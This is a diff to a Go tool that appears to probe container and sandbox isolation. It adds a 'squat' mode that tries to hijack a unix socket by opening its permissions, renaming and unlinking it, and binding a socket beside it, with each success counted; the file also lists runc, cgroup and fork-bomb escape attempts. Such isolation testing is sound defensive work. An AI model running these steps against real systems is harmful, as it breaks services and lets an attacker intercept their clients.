@@ -6,6 +6,7 @@
 //	attack exe DURATION [overwrite]  CVE-2019-5736: open other processes' /proc/PID/exe for writing (and overwrite those not busybox's)
 //	attack fds MARKER                CVE-2024-21626: walk up from every open fd and the cwd looking for MARKER
 //	attack unix LISTFILE             connect to every unix socket in LISTFILE (paths; @abstract names)
+//	attack squat SOCKET              take over a unix socket's path: unlink, rename, chmod it, bind beside it
 //	attack kernel MAJOR:MINOR TOKEN  raw devices and kernel interfaces of a privileged guest
 //	attack cgroup                    CVE-2022-0492: cgroup v1 release_agent
 //	attack peer MARKER PIDS...       reach another sandbox: its files via /proc/*/root, its processes by pid
@@ -32,7 +33,7 @@ func say(k string, v ...any) { fmt.Println(append([]any{k}, v...)...) }
 
 func main() {
 	if len(os.Args) < 2 {
-		fmt.Fprintln(os.Stderr, "usage: attack exe|fds|unix|kernel|cgroup|peer|bomb ...")
+		fmt.Fprintln(os.Stderr, "usage: attack exe|fds|unix|squat|kernel|cgroup|peer|bomb ...")
 		os.Exit(2)
 	}
 	switch os.Args[1] {
@@ -42,6 +43,8 @@ func main() {
 		fds(os.Args[2])
 	case "unix":
 		sockets(os.Args[2])
+	case "squat":
+		squat(os.Args[2])
 	case "kernel":
 		kernel(os.Args[2], os.Args[3])
 	case "cgroup":
@@ -211,6 +214,33 @@ func sockets(list string) {
 	}
 	say("UNIX-TRIED", tried)
 	say("UNIX-CONNECTS", connected)
+}
+
+// squat tries to take a unix socket's path from its owner, so that its
+// clients would talk to the attacker: remove it, move it aside, open its
+// mode, and bind a socket of its own beside it. SQUAT-TOOK counts the
+// steps that succeeded.
+func squat(path string) {
+	took := 0
+	step := func(name string, err error) {
+		say("SQUAT", name, fmt.Sprintf("err=%v", err))
+		if err == nil {
+			took++
+		}
+	}
+	step("chmod", os.Chmod(path, 0o777))
+	step("rename", os.Rename(path, path+".moved"))
+	step("unlink", unix.Unlink(path))
+	s, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
+	if err == nil {
+		mine := filepath.Join(filepath.Dir(path), "gvx-nat-squat.sock")
+		if err = unix.Bind(s, &unix.SockaddrUnix{Name: mine}); err == nil {
+			unix.Unlink(mine)
+		}
+		unix.Close(s)
+	}
+	step("bind", err)
+	say("SQUAT-TOOK", took)
 }
 
 // kernel tries what a privileged container on runc could do to the host
